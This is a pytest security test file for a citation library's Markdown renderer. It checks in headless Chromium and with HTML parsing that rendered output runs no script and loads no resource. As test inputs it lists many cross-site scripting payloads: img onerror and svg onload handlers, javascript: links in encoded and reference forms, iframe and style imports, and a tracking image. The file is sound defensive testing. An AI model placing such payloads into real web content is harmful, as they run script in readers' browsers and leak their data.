"""Issue 9 §1: ``--format md`` is safe to hand to any chat UI (003.5).

The Markdown is rendered by markdown-it-py, permissively (CommonMark with raw HTML) and with
its default preset, and loaded in headless Chromium: no payload may run and no request may
leave the page. Every payload calls ``alert`` and points at a logging server, so both are
counted, and the same payloads rendered without citeproof prove the harness sees them fire.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from citeproof import Source, verify
from citeproof.render import render_markdown
from citeproof.render._edits import apply_edits
from citeproof.render._markdown_safety import canonical_url, markdown_link, neutralise_markdown
from tests.security.browser import load_in_chromium, request_logger, require_chromium

RENDERERS = {
    "commonmark+html": MarkdownIt("commonmark", {"html": True}),
    "default": MarkdownIt(),
}

POLICY = "Refer every loan above 80% loan-to-value to a senior underwriter."


def payload_answer(base: str) -> str:
    """One attack per paragraph: each one got through the old Markdown rendering."""
    return "\n\n".join(
        [
            f'The policy says "{POLICY}" [S1].',
            f"Raw HTML: <img src={base}/raw onerror=alert(1)>",
            # A code span "closed" across a blank line is no code span at all.
            f"`start of code\n\n<img src={base}/span onerror=alert(2)> end`",
            # A fence indented four spaces is an indented code block, not a fence ...
            f"    ```\n<img src={base}/indented onerror=alert(3)>\n    ```",
            # ... and a fence in a list item closes at the item's end.
            f"- item\n\n  ```\n  code\n  ```\n<svg onload=alert(4)><image href={base}/list />",
            f"![tracking]({base}/image?q=SECRET)",
            # An image whose "!" the answer escaped already, or whose backslash is escaped.
            f"\\![escaped]({base}/escaped-image) \\\\![double]({base}/double-escaped-image)",
            f"![by reference][pic]\n\n[pic]: {base}/reference-image",
            "[a reference][js]\n\n[js]: javascript:alert(5)",
            "[entity](javascript&#58;alert(6)) [hex](&#x6A;avascript:alert(7))",
            "[angle](<javascript:alert(8)>) [spaced] (javascript:alert(9))",
            "<details open ontoggle=alert(10)><summary>x</summary></details>",
            f"<style>@import '{base}/style.css';</style><iframe src={base}/frame></iframe>",
            f"<!-- --><img src={base}/comment onerror=alert(11)>",
        ]
    )


def hostile_sources(base: str) -> list[Source]:
    return [
        Source(
            id="S1",
            kind="document",
            text=f"{POLICY}\n\n<img src={base}/source onerror=alert(12)>",
            title=f"<img src={base}/title onerror=alert(13)>",
            url="javascript:alert(14)",
        ),
        Source(
            id="S2",
            kind="email_body",
            text=f"![x]({base}/email-image) [y](javascript:alert(15))",
            title="](javascript:alert(16))",
            url=f"https://example.com/a b<img src={base}/url onerror=alert(17)>",
        ),
    ]


class _Links(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.targets: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.targets += [value or "" for name, value in attrs if name in {"href", "src"}]


def _elements(html: str) -> _Links:
    parser = _Links()
    parser.feed(html)
    return parser


@pytest.mark.browser
def test_markdown_output_runs_nothing_and_fetches_nothing_in_a_browser_003_5(
    tmp_path: Path,
) -> None:
    require_chromium()
    with request_logger() as log:
        text = payload_answer(log.base)
        answer = verify(text, hostile_sources(log.base))
        markdown = render_markdown(answer)
        # The harness sees the payloads fire when nothing neutralises them.
        control = load_in_chromium(RENDERERS["commonmark+html"].render(text), tmp_path, "raw")
        assert control.executions > 0 and log.paths, "the browser check itself is broken"
        log.paths.clear()
        for name, renderer in RENDERERS.items():
            effects = load_in_chromium(renderer.render(markdown), tmp_path, name)
            assert effects.executions == 0, name
        assert log.paths == []


@pytest.mark.parametrize("renderer", list(RENDERERS))
def test_markdown_output_links_only_to_http_https_or_mailto_and_loads_no_image_003_5(
    renderer: str,
) -> None:
    base = "http://127.0.0.1:9"
    markdown = render_markdown(verify(payload_answer(base), hostile_sources(base)))
    html = RENDERERS[renderer].render(markdown)
    found = _elements(html)
    assert set(found.tags) <= {"p", "a", "details", "summary", "mark", "blockquote", "ul",
                               "li", "pre", "code", "hr", "h2", "strong", "em"}  # fmt: skip
    assert all(re.match(r"(https?|mailto):", target) for target in found.targets), found.targets
    # The tracking image is still reachable, as a link the reader chooses to follow.
    assert f'<a href="{base}/image?q=SECRET">tracking</a>' in html


def test_markdown_reference_definitions_are_normalised_003_5() -> None:
    answer = "See [the policy][p] and [the rates][r].\n\n[p]: http://example.com/a&amp;b%20c\n" \
        "[r]: <https://example.com/x y>"  # fmt: skip
    markdown = render_markdown(verify(answer, [Source(id="S1", kind="document", text="x")]))
    assert "[p]: http://example.com/a&b%20c" in markdown
    assert "[r]: https://example.com/x%20y" in markdown


def neutralised(markdown: str) -> str:
    return apply_edits(markdown, neutralise_markdown(markdown))


# (Markdown from outside, as citeproof hands it on). A destination is read where CommonMark
# reads it (blanks and one line break before it, "<...>" on one line, backslash escapes,
# balanced parentheses, up to a blank or a control character); a safe one is written in its
# canonical form, any other one loses its link syntax ("]\(", "]\:").
DESTINATIONS = [
    ("see [a](", "see [a]\\("),  # the text ends where a destination would start
    ("see [a]( ", "see [a]\\( "),
    ("see [a](\n ", "see [a]\\(\n "),
    ("[r]:", "[r]\\:"),
    ("[a](https://example.com/", "[a](https://example.com/"),  # never closed: no link
    ("[a](Xhttps://example.com/)", "[a]\\(Xhttps://example.com/)"),  # relative, not http
    ("Intro [a](\nhttps://example.com/)", "Intro [a](\nhttps://example.com/)"),
    ("Intro [a](\n https://example.com/)", "Intro [a](\n https://example.com/)"),
    ("Intro [a](\n Xhttps://example.com/)", "Intro [a]\\(\n Xhttps://example.com/)"),
    ("[a](<https://example.com/>)", "[a](https://example.com/)"),
    ("5 > 4, see [a](<https://example.com/a b>)", "5 > 4, see [a](https://example.com/a%20b)"),
    ("[a](<https://example.com/>) and 6 > 5", "[a](https://example.com/) and 6 > 5"),
    ("[a](https://example.com/a\\)) tail", "[a](https://example.com/a%29) tail"),
    # Escapes and entities are decoded over the whole destination, not up to the first one.
    ("[a](https://example.com/a\\)&amp;\\(b) tail", "[a](https://example.com/a%29&%28b) tail"),
    ("[a](https://example.com/\\)", "[a](https://example.com/%29"),  # "\)" at the very end
    ("[a](https://example.com/\x7fx)", "[a](https://example.com/\x7fx)"),  # DEL ends it
    ("[a](https://example.com/\x01x)", "[a](https://example.com/\x01x)"),  # so does a C0
    ('[a](https://example.com/ "t")', '[a](https://example.com/ "t")'),  # a blank: a title
    # Balanced parentheses stay in the destination, however deep; the first unbalanced ends it.
    ("[a](https://example.com/(x)y) z", "[a](https://example.com/%28x%29y) z"),
    ("[a](https://example.com/((x))y) z", "[a](https://example.com/%28%28x%29%29y) z"),
    ("[a](javascript:alert(1)) x", "[a]\\(javascript:alert(1)) x"),
    ("[r]: javascript:alert(1)", "[r]\\: javascript:alert(1)"),
    # A "](" inside a destination rewritten is its text; the links after it are still read.
    (
        "[a](https://example.com/x](y) [b](javascript:alert(1))",
        "[a](https://example.com/x%5D%28y%29 [b]\\(javascript:alert(1))",
    ),
]


@pytest.mark.parametrize(("markdown", "shown"), DESTINATIONS)
def test_a_link_destination_is_read_where_commonmark_reads_it_003_5(
    markdown: str, shown: str
) -> None:
    assert neutralised(markdown) == shown


AUTOLINKS = [
    # The text of the link is escaped Markdown; the target is the canonical address.
    ("<https://example.com/a_b*c>", "[https://example.com/a\\_b\\*c](https://example.com/a_b*c)"),
    ("<mailto:me@example.com>", "[mailto:me@example.com](mailto:me@example.com)"),
    (
        "<https://a.example/><https://b.example/>",
        "[https://a.example/](https://a.example/)[https://b.example/](https://b.example/)",
    ),
    ("<javascript:alert(1)>", "&lt;javascript:alert(1)>"),  # no link, and no tag either
    # Every "<" that could open a tag, a comment or a declaration is an entity; others stay.
    (
        "a <b>tag</b> <!-- c --> <!x> <?p?> 1 < 2",
        "a &lt;b>tag&lt;/b> &lt;!-- c --> &lt;!x> &lt;?p?> 1 < 2",
    ),
]


@pytest.mark.parametrize(("markdown", "shown"), AUTOLINKS)
def test_an_autolink_becomes_a_plain_link_to_its_canonical_address_003_5(
    markdown: str, shown: str
) -> None:
    assert neutralised(markdown) == shown


IMAGES = [
    ("![x](https://example.com/) \\", "\\![x](https://example.com/) \\"),  # at the start
    (
        "[a](javascript:x) ![x](https://example.com/)",
        "[a]\\(javascript:x) \\![x](https://example.com/)",
    ),
    ("\\![x](https://example.com/)", "\\![x](https://example.com/)"),  # escaped already
    ("a \\\\![x](https://example.com/)", "a \\\\\\![x](https://example.com/)"),  # "\\" then "!"
    ("a \\\\\\![x](https://example.com/)", "a \\\\\\![x](https://example.com/)"),  # "\\" "\!"
    ("a \\\\\\\\![x](https://example.com/)", "a \\\\\\\\\\![x](https://example.com/)"),
]


@pytest.mark.parametrize(("markdown", "shown"), IMAGES)
def test_an_image_is_left_a_link_whatever_backslashes_precede_it_003_5(
    markdown: str, shown: str
) -> None:
    assert neutralised(markdown) == shown
    assert "<img" not in RENDERERS["commonmark+html"].render(shown)


def test_a_link_is_made_only_to_a_safe_address_003_5() -> None:
    assert markdown_link("the policy", "https://example.com/a b") == (
        "[the policy](https://example.com/a%20b)"
    )
    assert markdown_link("the policy", "javascript:alert(1)") == "the policy"
    assert canonical_url(" https://example.com/x ") == "https://example.com/x"
    for unsafe in ("https://example.com/a\x01b", "https://example.com/\x7f", "//example.com/",
                   "ftp://example.com/", "https:///x", "mailto:"):  # fmt: skip
        assert canonical_url(unsafe) is None, unsafe
